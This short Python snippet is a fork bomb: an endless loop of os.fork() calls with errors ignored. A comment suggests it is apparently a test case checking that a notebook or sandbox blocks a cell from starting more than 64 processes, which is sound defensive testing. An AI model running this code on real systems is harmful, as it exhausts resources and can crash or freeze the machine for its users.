"""Forks as fast as it can."""
# says: this cell started more than 64 processes.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
